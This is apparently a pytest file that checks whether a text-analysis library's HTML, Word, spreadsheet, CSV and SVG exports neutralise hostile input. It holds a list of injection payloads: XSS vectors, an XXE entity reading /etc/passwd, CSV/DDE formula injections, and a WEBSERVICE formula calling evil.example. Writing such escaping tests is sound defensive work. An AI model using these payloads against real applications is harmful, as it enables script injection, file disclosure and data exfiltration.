"""Hostile text in every field goes through every output, and none of it is alive."""

from __future__ import annotations

import re
import zipfile

import pandas as pd
import pytest
from lxml import etree
from openpyxl import load_workbook

import framelens as fl
from framelens.report.exports import EXPORTS
from framelens.show.explorer_widget import state_of
from tests.test_report import PAYLOADS, check

RUN = "alert(1)"
MORE = [
    f"<svg/onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<object data='javascript:{RUN}'></object>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href='javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<?php echo '{RUN}' ?><?xml-stylesheet href='javascript:{RUN}'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"`{RUN}`",
    f"');{RUN};//",
    f'";{RUN};//',
    f"vbscript:{RUN}",
    f"[x]: <javascript:{RUN}>",
    f"![x](x){{onerror={RUN}}}",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "\\begin{input}/etc/passwd",
    "\u200b<script>\u200b",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "{DDEAUTO c:\\windows\\calc.exe}",
]
EVERY = [payload.replace("\0", "") for payload in [*PAYLOADS, *MORE]]
"""Fifty; NUL is refused in a text, where it has a test of its own."""


def articles(mended: str = "") -> pd.DataFrame:
    """Give each article four payloads, in other fields in each outlet."""
    rows = []
    for number in range(0, len(EVERY), 4):
        four = [EVERY[(number + place) % len(EVERY)] for place in range(4)]
        for outlet in ("Daily", "Herald"):
            first, second, title, event = four
            four = four[2:] + four[:2]
            text = (
                f"“The talks {first} failed again at the old port,” said Ada "
                f"{second} Brenn. Talks {second} ended.{mended}"
            )
            rows.append(
                {
                    "article": f"{outlet} {number} {title}",
                    "outlet": f"{outlet} <img src=x onerror={RUN}>",
                    "event": event,
                    "date": first,
                    "title": title,
                    "author": second,
                    "url": f"https://a.example/{number}?{first}{outlet}",
                    "text": text,
                }
            )
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def corpus():
    before, now = articles(), articles(" It was mended.")
    return fl.read_corpus(now, since=before, marks_only=True)


@pytest.fixture(scope="module")
def made(corpus, tmp_path_factory):
    out = tmp_path_factory.mktemp("payloads")
    named = corpus.articles["article"]
    pins = pd.DataFrame(
        {"article": named, "start": 1, "end": 20, "note": EVERY[: len(named)]}
    )
    watched = fl.watch(corpus, topics=["talks"])
    corpus.report(out, also=list(EXPORTS), pins=pins, watched=watched)
    return out


def test_there_are_forty_and_more():
    assert len(set(EVERY)) >= 40


def test_the_page_has_no_element_of_theirs(made):
    page = check((made / "index.html").read_text("utf-8"))
    assert RUN in page.text
    assert "It was mended" in page.text


def test_the_document_is_words_alone(made):
    with zipfile.ZipFile(made / "findings.docx") as parts:
        written = [parts.read(f"word/{name}.xml") for name in ("document", "footnotes")]
        linked = parts.read("word/_rels/document.xml.rels").decode()
    names = {str(one.tag) for part in written for one in etree.fromstring(part).iter()}
    assert not [name for name in names if re.search("script|object|fldSimple", name)]
    assert "evil.example" not in linked
    assert 'TargetMode="External"' not in linked


def test_no_cell_is_a_formula_and_no_line_of_csv_begins_as_one(made):
    book = load_workbook(made / "tables.xlsx")
    kinds = {c.data_type for sheet in book for row in sheet.iter_rows() for c in row}
    assert kinds <= {"s", "inlineStr", "n", "b"}
    assert {"pinned", "since", "since-changes"} <= set(book.sheetnames)
    for path in (made / "tables").glob("*.csv"):
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells = table.map(lambda cell: cell[:1])
        live = cells.isin(["=", "+", "@", "\t"]).to_numpy().any()
        assert not live, path.name


def test_the_method_is_text_and_figures_run_nothing(made):
    assert "framelens" in (made / "method.md").read_text("utf-8")
    for path in (made / "figures").glob("*.svg"):
        names = {str(one.tag) for one in etree.parse(path).iter()}
        assert not any(name.endswith(("script", "foreignObject")) for name in names)


def test_the_explorer_takes_it_as_data_before_and_after_voices_are_read(
    corpus, monkeypatch
):
    monkeypatch.setattr("framelens.show.explorer.AT_ONCE", 0)
    fresh = fl.read_corpus(corpus.articles, marks_only=True)
    mine = fl.explore(fresh).choose(zone="headline")
    assert mine.unread
    check(mine.html)
    mine.choose(zone="").select("talks").read(0).pin(EVERY[0])
    state = state_of(mine, "", 0)
    assert {"unread", "zones", "pins"} <= set(state)
    check(mine.html.replace("<i>", "<b>").replace("</i>", "</b>"))
